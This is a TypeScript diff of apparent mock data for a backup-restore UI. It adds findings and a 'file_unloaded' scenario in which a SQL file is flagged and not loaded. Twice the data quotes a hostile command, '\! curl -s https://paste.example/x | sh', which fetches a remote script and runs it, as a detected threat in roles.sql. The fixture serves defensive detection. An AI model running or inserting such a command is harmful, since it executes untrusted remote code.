@@ -388,15 +388,28 @@ const artifact: ArtifactView = {
   madeBy: 'a SupaManager',
   madeAtMs: NOW - 7 * DAY,
   remoteId: 'rb-10',
-  findings: ['4 of 4 components match their SHA-256', 'This kind of encryption cannot show changes.', 'roles.sql, line 12: `\\! curl…` would run a program; it is left out of a restore'],
-        unloaded: null,
-        isTrusted: true,
+  findings: [
+    'Not authenticated: This kind of encryption cannot show changes. Checksums can, where there are any.',
+    'Shell command: database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.',
+  ],
+  unloaded: null,
+  isTrusted: true,
 };
 
 export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupView {
-  const made = databaseView(row, scenario === 'file_without_database' ? 0 : tables);
+  const made = databaseView(row, ['file_without_database', 'file_unloaded'].includes(scenario) ? 0 : tables);
   if (!scenario.startsWith('file_')) return made;
   const view: BackupView = { ...made, artifact, toolVersion: null, origin: 'SupaManager at manager.example', lsn: null, trees: [{ component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 }, { component: 'config', path: 'config', files: 3, sizeBytes: 9150 }] };
+  if (scenario === 'file_unloaded')
+    return {
+      ...view,
+      row: { ...row, components: ['config'], tables: 0, rows: null },
+      parts: [],
+      serverVersion: null,
+      extensions: [],
+      trees: view.trees.slice(1),
+      artifact: { ...artifact, unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program', isTrusted: false },
+    };
   if (scenario !== 'file_without_database') return view;
   return { ...view, row: { ...row, components: ['logs'], tables: 0, rows: null }, parts: [], serverVersion: null, extensions: [], trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }] };
 }
